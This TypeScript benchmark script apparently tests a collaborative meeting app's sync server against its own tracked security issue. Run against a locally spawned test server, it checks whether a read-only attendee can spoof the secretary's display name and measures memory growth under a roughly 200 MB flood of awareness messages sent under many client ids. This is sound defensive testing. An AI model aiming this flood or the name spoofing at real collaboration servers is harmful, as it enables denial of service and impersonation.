// Server RSS after one connection pushes awareness states under many client ids, and whether
// a read-only attendee's claimed name is relayed (security issue 15, item 10).
//   npx tsx bench/attacks/awarenessFlood.ts 200                      200 MB of states
import { readFileSync, rmSync } from 'node:fs';
import * as encoding from 'lib0/encoding';
import { createMeetingFixture, STANDARD_CAST } from '../../test/helpers/meetingFixture.js';
import { awarenessMessage } from '../../test/helpers/protocolMessages.js';
import { SPAWNED_ADMIN_PASSWORD, spawnServer } from '../../test/helpers/spawnServer.js';
import { makeTempDir } from '../../test/helpers/startTestServer.js';
import {
  connectProvider,
  openRawSocket,
  waitFor,
  waitForSynced,
} from '../../test/helpers/syncClients.js';

const TOTAL_MB = Number(process.argv[2] ?? 200);
const PER_MESSAGE = 60;
const STATE_BYTES = 1000;

function awareness(entries: Array<[number, number, unknown]>): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, entries.length);
  for (const [id, clock, state] of entries) {
    encoding.writeVarUint(encoder, id);
    encoding.writeVarUint(encoder, clock);
    encoding.writeVarString(encoder, JSON.stringify(state));
  }
  return awarenessMessage(encoding.toUint8Array(encoder));
}
const rssMB = (pid: number) =>
  Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024);

const dataDir = makeTempDir('shh-measure-');
const server = await spawnServer(dataDir);
const pid = server.child.pid!;
const fixture = await createMeetingFixture(server, SPAWNED_ADMIN_PASSWORD, {
  cast: STANDARD_CAST.filter((p) => p.key === 'secretary' || p.key === 'attendee'),
  statuses: ['open'],
});
const name = `m/${fixture.meeting.id}/minutes`;
const host = connectProvider(server.syncUrl, name, fixture.people.secretary!.token);
await waitForSynced(host);
// 1. A read-only attendee claims the secretary's name.
const impostor = connectProvider(server.syncUrl, name, fixture.people.attendee!.token);
await waitForSynced(impostor);
impostor.provider.awareness.setLocalStateField('user', { name: '王书记', color: '#1565c0' });
await waitFor(() => host.provider.awareness.getStates().has(impostor.doc.clientID), 'impostor');
const relayed = (
  host.provider.awareness.getStates().get(impostor.doc.clientID) as { user: { name: string } }
).user.name;
impostor.destroy();
host.destroy();
// 2. Flood.
const observer = await openRawSocket(
  `${server.syncUrl}/${name}?token=${fixture.people.secretary!.token}`,
);
observer.ws.on('message', () => (observer.messages.length = 0));
const rssBefore = rssMB(pid);
const raw = await openRawSocket(
  `${server.syncUrl}/${name}?token=${fixture.people.attendee!.token}`,
);
let closeCode: number | null = null;
void raw.closed.then((c) => (closeCode = c.code));
const messages = Math.ceil((TOTAL_MB * 1e6) / (PER_MESSAGE * STATE_BYTES));
let next = 1;
for (let m = 0; m < messages && closeCode === null; m++) {
  const entries = Array.from({ length: PER_MESSAGE }, (): [number, number, unknown] => [
    next++,
    1,
    { user: { name: '假人' }, pad: 'x'.repeat(STATE_BYTES - 30) },
  ]);
  raw.ws.send(awareness(entries));
  // Within the rate limit: bursts of 1,500, then 150 a second.
  if (m > 1500 && m % 15 === 0) await new Promise((r) => setTimeout(r, 100));
  while (raw.ws.bufferedAmount > 8e6) await new Promise((r) => setTimeout(r, 20));
}
// A marker to know the server handled everything before it.
raw.ws.send(awareness([[1, 2, { done: true }]]));
await new Promise((r) => setTimeout(r, 3000));
const rssAfter = rssMB(pid);
console.log(
  JSON.stringify({
    relayedNameOfAttendeeClaimingWangShuji: relayed,
    floodMB: TOTAL_MB,
    messages,
    closeCode,
    serverRssBeforeMB: rssBefore,
    serverRssAfterMB: rssAfter,
  }),
);
server.child.kill('SIGKILL');
await server.exited;
rmSync(dataDir, { recursive: true, force: true });
process.exit(0);
